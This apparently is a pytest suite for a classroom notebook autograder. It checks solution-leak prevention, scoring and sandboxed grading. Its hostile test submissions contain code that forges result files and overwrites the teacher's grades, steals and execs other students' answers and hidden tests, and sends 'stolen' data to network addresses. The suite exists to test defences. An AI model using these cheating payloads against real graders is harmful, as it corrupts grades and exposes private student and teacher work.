"""The classroom assignments: generated without solutions, graded right, and safe to grade.

Each assignment is generated once (Otter Assign) into a temporary folder;
submissions are built from its student and solution notebooks, and graded
with ``assignments/classroom.py`` the way ``make grade`` does, with short
time limits. The hostile submissions try what a cheating or careless
student would, and each test checks the teacher's side afterwards: files,
scores and the process table.
"""

from __future__ import annotations

import csv
import hashlib
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import nbformat
import pytest

from conftest import ROOT

sys.path.insert(0, str(ROOT / "assignments"))
import classroom  # noqa: E402

NAMES = ["backprop", "feedforward", "loss", "neuron", "sgd"]
TIMEOUT = 20.0  # seconds per submission: several times what a good one takes, even on a busy machine
LIMITS = classroom.Limits(timeout=TIMEOUT, memory_mb=2048, jobs=2)


def sandbox_or_skip() -> None:
    if classroom.bwrap_available():
        return
    if os.environ.get("CI") == "true":
        pytest.fail("CI=true needs bubblewrap for the grading tests (make test installs it as root)")
    pytest.skip("no bubblewrap here: `sudo apt-get install bubblewrap` enables the sandboxed grading tests")


@pytest.fixture(scope="session")
def generated(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("assignments")
    classroom.assign(NAMES, out, run_tests=False)
    return out


def notebook(generated: Path, name: str, kind: str = "student"):
    return nbformat.read(generated / kind / f"{name}.ipynb", as_version=4)


def answers(generated: Path, name: str) -> list[str]:
    """The solution of each answer cell, in order."""
    solved = notebook(generated, name, "solutions")
    ids = [cell.id for cell in notebook(generated, name).cells if "otter_answer_cell" in cell.metadata.get("tags", [])]
    by_id = {cell.id: cell.source for cell in solved.cells}
    return [by_id[cell_id] for cell_id in ids]


def submission(generated: Path, name: str, replace: dict[int, str] | None = None,
               solved: bool = False, extra: dict[int, str] | None = None):
    """The student notebook with answer cells replaced (index → source), or all solved,
    and extra code cells inserted after the answer cell of the given index (-1: first)."""
    nb = notebook(generated, name)
    solutions = answers(generated, name)
    replace = {**({i: s for i, s in enumerate(solutions)} if solved else {}), **(replace or {})}
    cells, answer = [], -1
    extra = extra or {}
    if -1 in extra:
        cells.append(nbformat.v4.new_code_cell(extra[-1]))
    for cell in nb.cells:
        if "otter_answer_cell" in cell.metadata.get("tags", []):
            answer += 1
            if answer in replace:
                cell.source = replace[answer]
            cells.append(cell)
            if answer in extra:
                cells.append(nbformat.v4.new_code_cell(extra[answer]))
        else:
            cells.append(cell)
    nb.cells = cells
    return nb


def save(nb, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def grade(generated: Path, name: str, folder: Path, out: Path, **kwargs) -> dict[tuple[str, str], dict]:
    rows = classroom.grade(name, folder, out, kwargs.pop("limits", LIMITS),
                           autograder=generated / "autograder" / f"{name}.zip", progress=False, **kwargs)
    return {(row["student"], row["question"]): row for row in rows}


def total(rows: dict, student: str) -> float:
    return sum(row["score"] for (who, _), row in rows.items() if who == student)


def sandbox_processes(scratch: Path) -> list[str]:
    """Command lines of every process this test's grading could have left: the sandboxes, whose
    command lines name this test's scratch folder, and everything inside them, orphans too (their
    mount table binds a file from that folder)."""
    marker = f"{scratch.parent.name}/{scratch.name}"
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or entry.name == str(os.getpid()):
            continue
        try:
            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            mounts = (entry / "mountinfo").read_text(errors="replace") if marker not in command else ""
        except OSError:
            continue
        if marker in command or marker in mounts:
            found.append(command[:200])
    return found


def left_behind(scratch: Path, patience: float = 10.0) -> list[str]:
    """This test's sandbox processes still there once the dying ones (killed, not yet reaped:
    no command line left) have had ``patience`` seconds to go."""
    waited = threading.Event()
    for _ in range(int(patience / 0.05)):
        found = sandbox_processes(scratch)
        if not found or any(found):  # none at all, or a live one with a command line: answer now
            return found
        waited.wait(0.05)
    return sandbox_processes(scratch)


@pytest.fixture
def scratch(tmp_path, monkeypatch) -> Path:
    """A folder of this test's own for the grader's temporary folders (and so its sandboxes)."""
    folder = tmp_path / "scratch"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


# ------------------------------------------------------------------------------------ generation
def test_every_source_becomes_a_student_notebook_and_an_archive(generated):
    assert classroom.assignment_names() == NAMES
    for name in NAMES:
        assert (generated / "student" / f"{name}.ipynb").is_file()
        assert (generated / "autograder" / f"{name}.zip").is_file()
        student = notebook(generated, name)
        assert student.metadata["otter"]["assignment_name"] == name
        assert any("grader.check_all()" in cell.source for cell in student.cells)


def test_points_add_up_per_assignment(generated):
    for name in NAMES:
        grader = classroom.Grader(name, generated / "autograder" / f"{name}.zip", LIMITS, sandbox=False)
        sources = nbformat.read(classroom.SOURCE / f"{name}.ipynb", as_version=4)
        declared = [float(line.split(":")[1]) for cell in sources.cells if cell.cell_type == "raw"
                    and cell.source.startswith("# BEGIN QUESTION")
                    for line in cell.source.splitlines() if line.startswith("points:")]
        assert sum(grader.questions.values()) == sum(declared) == 10, name
        assert all(points > 0 for points in grader.questions.values())


def test_no_solution_line_reaches_a_student_notebook(generated):
    for name in NAMES:
        lines = classroom.solution_lines(classroom.SOURCE / f"{name}.ipynb")
        assert len(lines) >= 3, f"{name}: too few solution lines to make this test mean anything"
        text = (generated / "student" / f"{name}.ipynb").read_text(encoding="utf-8")
        assert not [line for line in lines if line in text], name


def test_no_solution_line_reaches_the_built_book(built_book):
    lines = set().union(*(classroom.solution_lines(classroom.SOURCE / f"{n}.ipynb") for n in NAMES))
    served = list((built_book / "assignments").glob("*.ipynb"))
    assert sorted(path.stem for path in served) == NAMES
    for path in built_book.rglob("*"):
        if path.is_file() and path.suffix in {".html", ".ipynb", ".txt", ".js", ".json", ".md"}:
            text = path.read_text(encoding="utf-8", errors="replace")
            leaked = [line for line in lines if line in text]
            assert not leaked, f"{path.relative_to(built_book)} contains solution lines {leaked[:2]}"


def test_each_chapter_links_its_assignment(built_book):
    for page, name in (("01_neuron", "neuron"), ("05_sgd", "sgd")):
        html = (built_book / "book" / f"{page}.html").read_text(encoding="utf-8")
        assert f'href="../assignments/{name}.ipynb"' in html
        assert "teachers.html" in html


def test_a_leaking_solution_is_refused(tmp_path, monkeypatch):
    source = tmp_path / "source"
    source.mkdir()
    master = nbformat.read(classroom.SOURCE / "neuron.ipynb", as_version=4)
    for cell in master.cells:  # keep a solution line outside the solution block too
        if cell.cell_type == "markdown" and "Question 1" in cell.source:
            cell.source += "\n\n        safe_exp = np.exp(-np.abs(values))  # exponent never positive: no overflow"
    nbformat.write(master, source / "neuron.ipynb")
    monkeypatch.setattr(classroom, "SOURCE", source)
    with pytest.raises(classroom.ClassroomError, match="solution lines"):
        classroom.assign(["neuron"], tmp_path / "out", run_tests=False)


# ------------------------------------------------------------------------------- grading: scores
def test_solutions_full_blank_zero_partial_between_and_classic_mistakes(generated, tmp_path):
    sandbox_or_skip()
    naive_sigmoid = "def sigmoid(z):\n    return 1 / (1 + np.exp(-np.asarray(z, dtype=float)))\n"
    expects_sigma = "def sigmoid_prime(s):\n    return s * (1 - s)\n"
    one_wrong_sign = answers(generated, "backprop")[1].replace('"b3": delta_out,', '"b3": -delta_out,')
    transposed = answers(generated, "feedforward")[0].replace("np.asarray(W1, dtype=float) @", "np.asarray(W1, dtype=float).T @")
    special = {"neuron": {"naive": {0: naive_sigmoid}, "sigma": {1: expects_sigma}},
               "backprop": {"sign": {1: one_wrong_sign}},
               "feedforward": {"transposed": {0: transposed}}}
    assert "-delta_out" in one_wrong_sign and ".T @" in transposed
    for name in NAMES:
        folder = tmp_path / name
        save(submission(generated, name, solved=True), folder / "solved.ipynb")
        save(submission(generated, name), folder / "blank.ipynb")
        save(submission(generated, name, replace={0: answers(generated, name)[0]}), folder / "first.ipynb")
        for student, replace in special.get(name, {}).items():
            save(submission(generated, name, solved=True, replace=replace), folder / f"{student}.ipynb")
        rows = grade(generated, name, folder, tmp_path / "grades" / name)
        assert total(rows, "solved") == 10, (name, rows)
        assert all(row["status"] == "ok" for (who, _), row in rows.items() if who == "solved")
        assert total(rows, "blank") == 0
        assert all(row["status"] == "failed tests" for (who, _), row in rows.items() if who == "blank")
        assert 0 < total(rows, "first") < 10, name
        assert rows[("first", "q1")]["status"] == "ok"
    # the hidden tests catch what the public ones let through
    neuron = classroom_rows(tmp_path / "grades" / "neuron")
    assert 0 < neuron[("naive", "q1")]["score"] < 3 and "overflow" in neuron[("naive", "q1")]["reason"]
    assert neuron[("sigma", "q2")]["score"] == 0 and neuron[("sigma", "q2")]["status"] == "failed tests"
    backprop = classroom_rows(tmp_path / "grades" / "backprop")
    assert 0 < backprop[("sign", "q2")]["score"] < 5 and "wrong sign" in backprop[("sign", "q2")]["reason"]
    feedforward = classroom_rows(tmp_path / "grades" / "feedforward")
    assert feedforward[("transposed", "q1")]["status"] == "failed tests"
    assert feedforward[("transposed", "q1")]["score"] < 2


def classroom_rows(out: Path) -> dict[tuple[str, str], dict]:
    with open(out / "grades.csv", encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == list(classroom.COLUMNS)
    return {(row["student"], row["question"]): {**row, "score": float(row["score"])} for row in rows}


def test_a_rerun_gives_the_same_csv_and_a_changed_one_keeps_the_old(generated, tmp_path):
    sandbox_or_skip()
    folder, out = tmp_path / "subs", tmp_path / "grades"
    save(submission(generated, "loss", replace={0: answers(generated, "loss")[0]}), folder / "ada.ipynb")
    (folder / "notes.txt").write_text("not a notebook")
    grade(generated, "loss", folder, out)
    first = (out / "grades.csv").read_bytes()
    grade(generated, "loss", folder, out)
    assert (out / "grades.csv").read_bytes() == first
    assert not list(out.glob("*.~*~")), "an unchanged rerun must not pile up copies"
    save(submission(generated, "loss", solved=True), folder / "ada.ipynb")
    grade(generated, "loss", folder, out)
    assert (out / "grades.csv.~1~").read_bytes() == first, "the earlier grades must be kept"
    assert (out / "grades.csv").read_bytes() != first
    assert not list(out.glob(".*partial"))


# --------------------------------------------------------------- grading: broken and hostile work
@pytest.fixture
def listener():
    """A TCP server on the host's loopback that records whether anyone connected."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    heard = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
                heard.append(connection.recv(100))
                connection.close()
            except OSError:
                pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], heard
    stop.set()
    thread.join()
    server.close()


def test_a_class_of_broken_and_hostile_submissions(generated, tmp_path, listener, scratch):
    sandbox_or_skip()
    port, heard = listener
    folder, out = tmp_path / "class", tmp_path / "grades"
    out.mkdir()
    sentinel = "student,assignment,question,score,max_score,status,reason\nforged,neuron,q1,99,3,ok,x\n"
    solved = answers(generated, "neuron")
    source_master = classroom.SOURCE / "neuron.ipynb"

    def hostile(code: str) -> nbformat.NotebookNode:
        return submission(generated, "neuron", extra={-1: code})

    save(submission(generated, "neuron", solved=True), folder / "victim.ipynb")
    save(submission(generated, "neuron", solved=True, replace={1: "raise ValueError('not finished yet')\n" + solved[1]}),
         folder / "raises.ipynb")
    save(submission(generated, "neuron", solved=True, extra={0: "while True:\n    pass"}), folder / "endless.ipynb")
    save(submission(generated, "neuron", solved=True, extra={0: "import sys\nsys.exit()"}), folder / "sys_exit.ipynb")
    save(submission(generated, "neuron", solved=True, extra={0: "import os\nos._exit(3)"}), folder / "os_exit.ipynb")
    save(submission(generated, "neuron", solved=True, replace={0: solved[0] + "\nmy_sigmoid = sigmoid\ndel sigmoid\n"}),
         folder / "renamed.ipynb")
    save(submission(generated, "neuron", solved=True, extra={0: "print('x' * 10_000_000)"}), folder / "loud.ipynb")
    save(submission(generated, "neuron", solved=True, replace={
        0: "hog = []\nwhile True:\n    hog.append(np.ones(2**26))  # 512 MB a step\n" + solved[0]}),
        folder / "hog.ipynb")
    save(submission(generated, "loss", solved=True), folder / "wrong_assignment.ipynb")
    (folder / "invalid.ipynb").write_text('{"cells": [', encoding="utf-8")
    (folder / "empty.ipynb").write_bytes(b"")
    (folder / "scan.ipynb").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    (folder / "data.json").write_text('{"hello": 1}', encoding="utf-8")
    # Forged results wherever a grader might read them, and the teacher's grade files.
    save(hostile(f"""
import json, os, pickle
forged = {{"tests": [{{"name": "q1", "score": 99}}], "score": 99}}
for path in ["results.json", "../results/results.json", "/autograder/results/results.json",
             "/tmp/results.json", "{out}/grades.csv", "{out}/grades.json", "{folder}/victim.ipynb"]:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            json.dump(forged, file)
    except OSError:
        pass
for path in ["/tmp/results.pkl", "results.pkl"]:
    try:
        with open(path, "wb") as file:
            pickle.dump(forged, file)
    except OSError:
        pass
"""), folder / "forger.ipynb")
    # Another student's answers, the teacher's solutions and hidden tests, by relative and absolute path.
    save(hostile(f"""
import glob, json
stolen = []
for pattern in ["../victim.ipynb", "../*/victim.ipynb", "{folder}/*.ipynb", "{source_master}",
                "{ROOT}/_build/assignments/solutions/*.ipynb", "{classroom.BUILD}/autograder/*.zip"]:
    for path in glob.glob(pattern):
        try:
            stolen.append(json.load(open(path)))
        except Exception:
            pass
for notebook in stolen:
    for cell in notebook.get("cells", []):
        source = "".join(cell["source"])
        if cell["cell_type"] == "code" and source.startswith("def "):
            exec(source)
try:
    open("{folder}/victim.ipynb", "w").write("overwritten")
except OSError:
    pass
"""), folder / "snoop.ipynb")
    save(hostile(f"""
import socket
for address in [("127.0.0.1", {port}), ("10.0.0.1", 80), ("1.1.1.1", 443)]:
    try:
        socket.create_connection(address, timeout=1).sendall(b"stolen")
    except OSError:
        pass
"""), folder / "network.ipynb")
    (out / "grades.csv").write_text(sentinel, encoding="utf-8")
    before = {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.iterdir()}
    master_before = hashlib.sha256(source_master.read_bytes()).hexdigest()

    rows = grade(generated, "neuron", folder, out)

    assert {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.iterdir()} == before, \
        "the submissions folder was changed"
    assert hashlib.sha256(source_master.read_bytes()).hexdigest() == master_before
    assert heard == [], "a submission reached a server on the teacher's machine"
    assert left_behind(scratch) == [], "grading left processes behind"
    assert (out / "grades.csv.~1~").read_text(encoding="utf-8") == sentinel, "the earlier grades were lost"
    on_disk = classroom_rows(out)
    assert {key: row["score"] for key, row in on_disk.items()} == {key: row["score"] for key, row in rows.items()}

    students = {who for who, _ in rows}
    assert len(students) == 16 and all(len([q for w, q in rows if w == who]) == 4 for who in students)

    def status(student):
        return {row["status"] for (who, _), row in rows.items() if who == student}

    def reasons(student):
        return " | ".join(row["reason"] for (who, _), row in rows.items() if who == student)

    assert total(rows, "victim") == 10 and status("victim") == {"ok"}
    assert rows[("raises", "q2")]["score"] == 0 and "ValueError" in rows[("raises", "q2")]["reason"]
    assert total(rows, "raises") == 7
    assert status("endless") == {"timed out"} and "cell 6" in reasons("endless")
    assert total(rows, "sys_exit") == 10, "sys.exit() in a cell is graded honestly"
    assert status("os_exit") == {"error"} and "died" in reasons("os_exit")
    assert rows[("renamed", "q1")]["score"] == 0 and "sigmoid is not defined" in rows[("renamed", "q1")]["reason"]
    assert total(rows, "loud") == 10
    assert rows[("hog", "q1")]["status"] == "error" and "memory" in rows[("hog", "q1")]["reason"]
    assert status("wrong_assignment") == {"error"} and "'loss' assignment" in reasons("wrong_assignment")
    assert status("invalid") == {"not a notebook"} and "not valid JSON" in reasons("invalid")
    assert status("empty") == {"not a notebook"} and "empty" in reasons("empty")
    assert status("scan") == {"not a notebook"} and "PDF" in reasons("scan")
    assert status("data.json") == {"not a notebook"}
    for cheat in ("forger", "snoop", "network"):
        assert total(rows, cheat) == 0, f"{cheat} changed its own score: {reasons(cheat)}"
        assert status(cheat) == {"failed tests"}


def test_ctrl_c_writes_nothing_and_leaves_nothing_running(generated, tmp_path, scratch):
    sandbox_or_skip()
    folder, out = tmp_path / "subs", tmp_path / "grades"
    for student in ("a", "b"):
        save(submission(generated, "neuron", extra={-1: "while True:\n    pass"}), folder / f"{student}.ipynb")
    out.mkdir()
    (out / "grades.csv").write_text("earlier\n", encoding="utf-8")
    script = (f"import sys; sys.path.insert(0, {str(ROOT / 'assignments')!r}); import classroom; "
              f"from pathlib import Path; sys.exit(classroom.main(['grade', 'neuron', {str(folder)!r}, "
              f"'--out', {str(out)!r}, '--timeout', '120', '--jobs', '2', "
              f"'--autograder', {str(generated / 'autograder' / 'neuron.zip')!r}]))")
    process = subprocess.Popen([sys.executable, "-c", script], stderr=subprocess.PIPE, text=True,
                               env={**os.environ, "TMPDIR": str(scratch)})
    while len([p for p in sandbox_processes(scratch) if "ipykernel_launcher" in p]) < 2:  # both kernels
        try:
            process.wait(timeout=0.1)
        except subprocess.TimeoutExpired:
            continue
        pytest.fail(f"grading ended before it was interrupted: {process.stderr.read()}")
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 130, err
    assert "no grades were written" in err
    assert (out / "grades.csv").read_text(encoding="utf-8") == "earlier\n"
    assert sorted(path.name for path in out.iterdir()) == ["grades.csv"]
    assert left_behind(scratch) == []


def test_without_a_sandbox_grading_still_works(generated, tmp_path):
    folder = tmp_path / "subs"
    save(submission(generated, "sgd", solved=True), folder / "ada.ipynb")
    rows = grade(generated, "sgd", folder, tmp_path / "grades", sandbox=False)
    assert total(rows, "ada") == 10


def test_bad_requests_say_what_was_expected(generated, tmp_path):
    zip_path = generated / "autograder" / "neuron.zip"
    empty, out = tmp_path / "empty", tmp_path / "out"
    empty.mkdir()
    with pytest.raises(classroom.ClassroomError, match="expected one of"):
        classroom.grade("neurons", empty, out, autograder=zip_path, progress=False)
    with pytest.raises(classroom.ClassroomError, match="folder of notebooks"):
        classroom.grade("neuron", tmp_path / "missing", out, autograder=zip_path, progress=False)
    with pytest.raises(classroom.ClassroomError, match="no files"):
        classroom.grade("neuron", empty, out, autograder=zip_path, progress=False)
    with pytest.raises(classroom.ClassroomError, match="inside the submissions"):
        classroom.grade("neuron", empty, empty / "grades", autograder=zip_path, progress=False)
    with pytest.raises(classroom.ClassroomError, match="TIMEOUT"):
        classroom.grade("neuron", empty, out, classroom.Limits(timeout=0), autograder=zip_path, progress=False)
    with pytest.raises(classroom.ClassroomError, match="make assignments"):
        classroom.grade("neuron", empty, out, autograder=tmp_path / "none.zip", progress=False)
    assert not out.exists()
